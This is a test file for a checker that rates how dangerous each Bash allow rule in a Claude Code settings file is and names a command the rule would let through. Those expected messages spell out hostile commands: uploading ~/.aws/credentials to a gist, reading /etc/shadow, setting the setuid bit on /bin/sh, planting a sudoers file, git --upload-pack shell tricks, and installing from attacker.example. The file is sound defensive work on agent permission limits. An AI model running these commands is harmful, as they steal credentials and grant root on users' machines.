import { describe, expect, it } from 'vitest';
import broadAllowRule, { MAX_ANALYSED_PER_FILE } from '../../../src/checks/claude/broad-allow-rule.js';
import { machine, run } from '../claude-settings/helpers.js';

/** Runs the check on a user settings file allowing these rules; returns [rule, severity, message] per finding. */
async function judge(rules: string[]) {
  const f = machine({
    '~/.claude/settings.json': JSON.stringify({ permissions: { allow: rules } }, null, 2),
  });
  return (await run(broadAllowRule, f)).map((x) => [x.evidence, x.severity, x.message] as const);
}

describe('claude/broad-allow-rule judges Bash rules by what they admit', () => {
  it.each([
    // wrappers and shells run any command
    ['Bash(timeout:*)', 'critical'],
    ['Bash(env:*)', 'critical'],
    ['Bash(xargs:*)', 'critical'],
    ['Bash(command:*)', 'critical'],
    ['Bash(sudo:*)', 'critical'],
    ['Bash(sudo *)', 'critical'],
    ['Bash(source *)', 'high'],
    ['Bash(powershell -Command:*)', 'critical'],
    ['Bash(cmd.exe *)', 'critical'],
    ['Bash(bash:*)', 'critical'],
    ['Bash(eval:*)', 'critical'],
    // leading and middle wildcards
    ['Bash(* --help)', 'critical'],
    ['Bash(curl * http://localhost:*)', 'high'],
    // package runners
    ['Bash(uvx:*)', 'high'],
    ['Bash(bunx:*)', 'high'],
    ['Bash(bun x:*)', 'high'],
    ['Bash(deno:*)', 'high'],
    ['Bash(tsx:*)', 'high'],
    ['Bash(npm exec:*)', 'high'],
    ['Bash(nix shell:*)', 'high'],
    ['Bash(mise:*)', 'high'],
    ['Bash(python3:*)', 'high'],
    // tools that execute
    ['Bash(find:*)', 'critical'],
    ['Bash(git:*)', 'high'],
    ['Bash(sed:*)', 'high'],
    ['Bash(awk:*)', 'critical'],
    ['Bash(tar:*)', 'high'],
    ['Bash(make:*)', 'high'],
    ['Bash(go:*)', 'high'],
    // containers and clusters
    ['Bash(podman:*)', 'high'],
    ['Bash(docker compose:*)', 'high'],
    ['Bash(kubectl:*)', 'high'],
    // tokens, pushes
    ['Bash(gh:*)', 'high'],
    ['Bash(git push:*)', 'high'],
    ['Bash(/usr/bin/find:*)', 'critical'],
  ])('%s is %s', async (rule, severity) => {
    const [finding, ...rest] = await judge([rule]);
    expect(rest).toEqual([]);
    expect(finding?.[1]).toBe(severity);
  });

  it('names the admitted command that shows it', async () => {
    const [find, gh, curl] = (await judge(['Bash(find:*)', 'Bash(gh:*)', 'Bash(curl:*)'])).map(
      ([, , message]) => message,
    );
    expect(find).toContain('admits `find . -exec sh -c');
    expect(gh).toContain('admits `gh auth token`, which prints or reads credentials');
    expect(curl).toContain('which sends local files off the machine');
  });

  it('leaves narrow rules alone', async () => {
    expect(
      await judge([
        'Bash(npm run test:*)',
        'Bash(git status)',
        'Bash(ls:*)',
        'Bash(git log:*)',
        'Bash(git diff *)',
        'Bash(npx prettier:*)',
        'Bash(python3 -m pytest:*)',
        'Bash(gh pr view:*)',
        'Bash(docker ps)',
        'Bash(mkdir:*)',
        'Bash(npm install)',
        'Bash(uv run pytest:*)',
        'mcp__github__get_issue',
      ]),
    ).toEqual([]);
  });

  it('reports pre-approved MCP tools: all servers high, one whole server low', async () => {
    const found = await judge(['mcp__*', 'mcp__context7', 'mcp__playwright__*', 'mcp__github__get_issue']);
    expect(found.map(([rule, severity]) => [rule, severity])).toEqual([
      ['mcp__*', 'high'],
      ['mcp__context7', 'low'],
      ['mcp__playwright__*', 'low'],
    ]);
  });
});

describe('inline code, wrapped interpreters and config gadgets in real rules from the corpus', () => {
  it.each([
    ["Bash(node -e ' *)", 'DEDVO20/backend-rs'],
    ['Bash(node -e ":*)', 'Cornman92/Dev'],
    ["Bash(python -c ' *)", 'DEVMarlosGomes/Kuryos-deploy'],
    ['Bash(sudo python3 *)', 'DEEPGadget/gadgetini'],
    ['Bash(timeout 30 node:*)', 'DESARROLLOSROD/LogiProfit'],
    ['Bash(PYTHONPATH=pipeline python:*)', 'DELAxGithub/davinciauto'],
    ['Bash(powershell -ExecutionPolicy Bypass -File:*)', 'DG0908/baeder-azubi-app'],
    ['Bash(git config:*)', 'DFS420/GHL-FR'],
  ])('%s (%s) runs arbitrary code', async (rule) => {
    const [finding] = await judge([rule]);
    expect(finding?.[2]).toContain('which runs arbitrary code');
  });
});

describe('issue 9 misses on real configs (Artraid-IT-organization, FradSer): judged by capability', () => {
  it.each([
    // a wildcard inside the command word admits every program it can match
    ['Bash(python3*:*)', 'high'],
    // `pip*` admits `pipenv run sh -c …` too
    ['Bash(pip*:*)', 'critical'],
    ['Bash(npm*:*)', 'high'],
    ['Bash(npx*:*)', 'high'],
    ['Bash(node*:*)', 'high'],
    // versioned interpreters are their base program
    ['Bash(python3.12:*)', 'high'],
    ['Bash(node22:*)', 'high'],
    ['Bash(DISPLAY=:99 python3.12:*)', 'high'],
    // an open assignment prefix admits any command after it
    ['Bash(DISPLAY=:*)', 'critical'],
    ['Bash(FOO=1 *)', 'critical'],
    // another agent, persistence, services, compose v1, installers, runners and build tools
    ['Bash(claude:*)', 'critical'],
    ['Bash(crontab:*)', 'high'],
    ['Bash(sudo crontab:*)', 'high'],
    ['Bash(systemctl:*)', 'high'],
    ['Bash(docker-compose exec:*)', 'high'],
    ['Bash(pip install *)', 'high'],
    ['Bash(pip3 install:*)', 'high'],
    ['Bash(poetry *)', 'high'],
    ['Bash(pip *)', 'high'],
    ['Bash(cargo *)', 'high'],
    ['Bash(swift *)', 'high'],
    ['Bash(xcrun *)', 'high'],
    ['Bash(just *)', 'high'],
    ['Bash(cmake *)', 'high'],
  ])('%s is %s', async (rule, severity) => {
    const [finding, ...rest] = await judge([rule]);
    expect(rest).toEqual([]);
    expect(finding?.[1]).toBe(severity);
  });

  it('leaves the `:` no-op and narrow forms of these tools alone', async () => {
    expect(
      await judge([
        'Bash(:)',
        'Bash(crontab -l)',
        'Bash(systemctl status:*)',
        'Bash(pip list:*)',
        'Bash(python3.12 --version)',
        'Bash(docker-compose ps:*)',
        'Bash(cargo fmt:*)',
        'Bash(just --list)',
        'Bash(claude --version)',
      ]),
    ).toEqual([]);
  });

  it('names a command the rule admits', async () => {
    const [versioned, prefix] = (await judge(['Bash(python3.12:*)', 'Bash(npm*:*)'])).map(([, , m]) => m);
    expect(versioned).toContain('admits `python3.12 -c');
    expect(prefix).toContain('admits `npm install attacker-package`');
  });
});

describe('a file of accumulated rules (issue 16: linear time, nothing passed in silence)', () => {
  it('traces each distinct rule once, up to the cap per file, and reports the rules past it', async () => {
    const narrow = Array.from({ length: MAX_ANALYSED_PER_FILE }, (_, i) => `Bash(task-${i})`);
    // A repeat of a traced rule costs nothing and is not counted; `Bash(*)` needs no tracing.
    const found = await judge([...narrow, 'Bash(task-0)', 'Bash(xargs:*)', 'Bash(*)', 'Bash(timeout:*)']);
    const capped = found.filter(([, , message]) => message.includes('not analysed'));
    expect(capped).toHaveLength(1);
    expect(capped[0]?.[1]).toBe('critical');
    expect(capped[0]?.[2]).toMatch(/^2 Bash allow rules in .* were not analysed/);
    expect(found.some(([evidence]) => evidence === 'Bash(*)')).toBe(true);
    expect(found.some(([evidence]) => evidence === 'Bash(xargs:*)')).toBe(false);
  });

  it('traces every rule of a file under the cap', async () => {
    const found = await judge(['Bash(task-1)', 'Bash(xargs:*)']);
    expect(found.map(([evidence, severity]) => [evidence, severity])).toEqual([
      ['Bash(xargs:*)', 'critical'],
    ]);
  });
});

describe('rules in a settings file Claude Code ignores (a comment or trailing comma)', () => {
  it('are latent: reported a step lower, saying they are not in force until the syntax is fixed', async () => {
    const f = machine({
      '.claude/settings.local.json':
        '{\n  "permissions": {\n    // accumulated rules\n    "allow": [\n      "Bash(git status)",\n      "Bash(find:*)",\n      "Bash(gh api:*)",\n      "mcp__context7",\n    ],\n    "additionalDirectories": ["~"]\n  }\n}\n',
    });
    const found = (await run(broadAllowRule, f)).map((x) => [x.evidence, x.severity, x.line, x.message]);
    expect(found.map(([rule, severity, line]) => [rule, severity, line])).toEqual([
      ['Bash(find:*)', 'medium', 6],
      ['Bash(gh api:*)', 'medium', 7],
      ['mcp__context7', 'low', 8],
      ['~', 'medium', 10],
    ]);
    for (const [, , , message] of found) {
      expect(message).toContain('not in force (Claude Code ignores the file for a syntax error at line 3)');
      expect(message).toContain('once the syntax is fixed');
    }
    expect(found[0]?.[3]).toContain('admits `find . -exec sh -c');
  });

  it('are in force, at full severity, once the file is strict JSON', async () => {
    const f = machine({
      '.claude/settings.local.json': '{"permissions": {"allow": ["Bash(find:*)"]}}',
    });
    const [finding] = await run(broadAllowRule, f);
    expect(finding?.severity).toBe('critical');
    expect(finding?.message).not.toContain('not in force');
  });
});

describe('credential-holding CLIs, sudo with file tools, packages behind wrappers (corpus rules once missed)', () => {
  it.each([
    // [rule, corpus config, severity, the admitted command and what it does]
    [
      'Bash(vercel env:*)',
      '123SmartMedia/Baseball-League-Mgmt settings.json:8',
      'high',
      'admits `vercel env pull`, which prints or reads credentials',
    ],
    [
      'Bash(railway:*)',
      'DESARROLLOSROD/LogiProfit settings.local.json:45',
      'critical',
      'admits `railway run sh -c',
    ],
    [
      'Bash(gh api *)',
      'DEEPGadget/gadgetini settings.json:5',
      'high',
      "admits `gh api gists -F 'files[x][content]=@~/.aws/credentials'`, which sends local files off the machine",
    ],
    ['Bash(gh api:*)', 'shunkakinoki/dotfiles settings.json:575', 'high', 'admits `gh api gists'],
    ['Bash(gh.exe api:*)', 'DEEPGadget/gadgetini settings.local.json:30', 'high', 'admits `gh.exe api gists'],
    [
      'Bash(sudo cp *)',
      'DEEPGadget/gadgetini settings.json:10',
      'high',
      'admits `sudo cp /tmp/attacker /etc/sudoers.d/attacker`, which runs arbitrary code',
    ],
    [
      'Bash(sudo systemctl *)',
      'DEEPGadget/gadgetini settings.json:11',
      'high',
      'admits `sudo systemctl link /tmp/attacker.service`, which runs arbitrary code',
    ],
    [
      'Bash(sudo cat *)',
      'DEEPGadget/gadgetini settings.json:77',
      'high',
      'admits `sudo cat /etc/shadow`, which prints or reads credentials',
    ],
    [
      'Bash(sudo grep *)',
      'DEEPGadget/gadgetini settings.json:41',
      'high',
      "admits `sudo grep '' /etc/shadow`",
    ],
    [
      'Bash(sudo chmod *)',
      'DEEPGadget/gadgetini settings.json:47',
      'high',
      'admits `sudo chmod u+s /bin/sh`',
    ],
    [
      'Bash(timeout 30 npx ts-node:*)',
      'DESARROLLOSROD/LogiProfit settings.local.json:51',
      'high',
      'admits `timeout 30 npx ts-node -e',
    ],
  ])('%s (%s) is %s: %s', async (rule, _source, severity, shown) => {
    const found = await judge([rule]);
    expect(found).toHaveLength(1);
    expect(found[0]?.[1]).toBe(severity);
    expect(found[0]?.[2]).toContain(shown);
  });

  it('keeps the same tools narrow without root, and fixed harmless subcommands narrow with it', async () => {
    expect(
      await judge([
        // DEEPGadget/gadgetini: sudo with read-only diagnostics, exact service commands
        'Bash(sudo journalctl *)',
        'Bash(sudo dmesg *)',
        'Bash(sudo lsof *)',
        'Bash(sudo systemctl status gadgetini-web.service)',
        'Bash(sudo -u gadgetini python3)',
        // the same file tools without sudo touch only what the user can already
        'Bash(cat:*)',
        'Bash(cp:*)',
        'Bash(grep:*)',
        // a runner with a fixed package that runs no code it is given; a fixed read-only subcommand
        'Bash(npx prettier:*)',
        'Bash(npx tsc:*)',
        'Bash(vercel deploy:*)',
        'Bash(gh pr view:*)',
      ]),
    ).toEqual([]);
  });
});

describe('docker-compose is judged as docker compose (issue 9)', () => {
  it.each([
    ['docker compose:*', 'docker-compose:*'],
    ['docker compose run:*', 'docker-compose run:*'],
    ['docker compose exec:*', 'docker-compose exec:*'],
    ['docker compose exec app env', 'docker-compose exec app env'],
    ['podman compose exec:*', 'podman-compose exec:*'],
    ['sudo docker compose:*', 'sudo docker-compose:*'],
    ['timeout 60 docker compose exec:*', 'timeout 60 docker-compose exec:*'],
    ['docker compose logs:*', 'docker-compose logs:*'],
    ['docker compose ps', 'docker-compose ps'],
  ])('Bash(%s) and Bash(%s) get one judgement, each naming its own spelling', async (v2, v1) => {
    const [a, b] = await Promise.all([judge([`Bash(${v2})`]), judge([`Bash(${v1})`])]);
    expect(b.map(([, severity]) => severity)).toEqual(a.map(([, severity]) => severity));
    const normalise = (m: string) =>
      m.replaceAll('docker-compose', 'docker compose').replaceAll('podman-compose', 'podman compose');
    expect(b.map(([, , m]) => normalise(m))).toEqual(a.map(([, , m]) => m));
    for (const [, , m] of b) expect(m).toMatch(/admits `[^`]*(docker|podman)-compose/);
  });

  it('a path-qualified v1 binary too', async () => {
    const [finding] = await judge(['Bash(/usr/local/bin/docker-compose run:*)']);
    expect(finding?.[1]).toBe('high');
    expect(finding?.[2]).toContain('admits `/usr/local/bin/docker-compose run --rm -v /:/host app sh`');
  });
});

describe('rules the analysis cannot bound are reported low, saying why (issue 9)', () => {
  it.each([
    ['Bash(for:*)', 'shell `for` compound command'],
    ['Bash(while :*)', 'shell `while` compound command'],
    ['Bash(if:*)', 'shell `if` compound command'],
    ['Bash(chmod:*)', '`chmod` on any file'],
    ['Bash(chmod +x:*)', '`chmod` on any file'],
    ['Bash(chown *)', '`chown` on any file'],
  ])('%s', async (rule, why) => {
    const [finding, ...rest] = await judge([rule]);
    expect(rest).toEqual([]);
    expect(finding?.[1]).toBe('low');
    expect(finding?.[2]).toContain(`${rule}" in user settings cannot be bounded: it admits `);
    expect(finding?.[2]).toContain(why);
    expect(finding?.[2]).toContain('cannot bound');
  });

  it('exact commands of the same programs admit only themselves: not reported', async () => {
    expect(await judge(['Bash(chmod +x scripts/build.sh)', 'Bash(chmod 600 .env)'])).toEqual([]);
  });

  it('root permission changes stay broad (high), not merely unbounded', async () => {
    const [finding] = await judge(['Bash(sudo chmod:*)']);
    expect(finding?.[1]).toBe('high');
    expect(finding?.[2]).toContain('admits `sudo chmod u+s /bin/sh`');
  });
});

describe('installs, fetches and project runners that run code (issue 9 unsure rules, classified)', () => {
  it.each([
    ['Bash(npm install:*)', 'high', 'npm install attacker-package'],
    ['Bash(npm i *)', 'high', 'npm i attacker-package'],
    ['Bash(yarn add:*)', 'high', 'yarn add attacker-package'],
    ['Bash(gem install:*)', 'high', 'gem install attacker-package'],
    ['Bash(go install:*)', 'high', 'go install attacker.example/x@latest'],
    ['Bash(git clone *)', 'high', "git clone --upload-pack='sh -c sh' /tmp/x"],
    ['Bash(git pull:*)', 'high', "git pull --upload-pack='sh -c sh' /tmp/x"],
    ['Bash(bundle exec:*)', 'critical', 'bundle exec sh -c'],
    ['Bash(pipenv run:*)', 'critical', 'pipenv run sh -c'],
  ])('%s is %s: admits %s', async (rule, severity, shown) => {
    const [finding, ...rest] = await judge([rule]);
    expect(rest).toEqual([]);
    expect(finding?.[1]).toBe(severity);
    expect(finding?.[2]).toContain(`admits \`${shown}`);
  });

  it('installing from the lockfile and fixed scripts stay narrow', async () => {
    expect(
      await judge([
        'Bash(npm install)',
        'Bash(npm ci:*)',
        'Bash(npm run test:*)',
        'Bash(bundle exec rspec:*)',
      ]),
    ).toEqual([]);
  });
});
